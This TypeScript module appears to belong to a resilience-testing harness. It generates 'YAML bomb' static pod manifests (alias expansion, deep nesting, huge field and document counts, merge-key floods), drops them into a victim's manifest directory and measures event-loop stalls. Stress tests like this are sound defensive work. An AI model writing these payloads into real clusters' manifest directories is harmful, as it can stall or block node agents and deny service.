import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Attack } from '../attack.ts';
import { delay } from '../connections.ts';
import { notStarted } from '../started-pod.ts';

const GOOD = `apiVersion: v1
kind: Pod
metadata: { name: good }
spec: { dnsPolicy: Default, containers: [{ name: main, image: busybox, imagePullPolicy: IfNotPresent, command: [sleep, "600"] }] }
`;

/** Returns hostile manifests by file name. Each is below 1 MiB, the largest manifest that the kubelet reads. */
function bombs(count: (whole: number) => number): Readonly<Record<string, string>> {
  const numbers = (whole: number): readonly number[] => Array.from({ length: count(whole) }, (_, n) => n);
  const head = 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: bomb\n';
  return {
    'anchors.yaml': `${head}  annotations:\n${numbers(20_000)
      .map((n) => `    a${n}: &a${n} x\n    b${n}: *a${n}\n`)
      .join('')}`,
    'laughs.yaml': `a0: &a0 [x]\n${numbers(100)
      .map((n) => `a${n + 1}: &a${n + 1} [${`*a${n},`.repeat(9)}]\n`)
      .join('')}`,
    'deep.yaml': `${head}spec: ${'['.repeat(count(200_000))}`,
    'fields.yaml': `${head}${numbers(60_000)
      .map((n) => `f${n}: 1\n`)
      .join('')}`,
    'documents.yaml': '---\n{}\n'.repeat(count(100_000)),
    'merges.yaml': `a: &a { x: 1 }\n${numbers(20_000)
      .map((n) => `m${n}: { <<: *a }\n`)
      .join('')}`,
  };
}

export const yamlBombs: Attack = {
  name: 'yaml-bombs',
  input: 'static pod manifests of 1 MiB: anchors, aliases, depth, fields, documents',
  async run(scene) {
    const { victim, count } = scene;
    const stalls: string[] = [];
    await victim.figures();
    for (const [name, manifest] of Object.entries(bombs(count))) {
      await writeFile(join(victim.manifestDirectory, name), manifest.slice(0, 1 << 20));
      await delay(300);
      const figures = await victim.figures();
      if (figures === undefined) return { did: `no answer after ${name}`, success: `${name} blocks the process` };
      // Stalls are collected here, because each call of `figures` resets the longest stall.
      if (figures.longestStallMs > 2000) stalls.push(`${name} held the event loop for ${figures.longestStallMs} ms`);
    }
    await writeFile(join(victim.manifestDirectory, 'good.yaml'), GOOD);
    const problem = await notStarted(scene, 'default/good-victim');
    return {
      did: problem ?? 'a good pod was started',
      success: [...stalls, problem ?? []].flat().join('; ') || undefined,
    };
  },
};
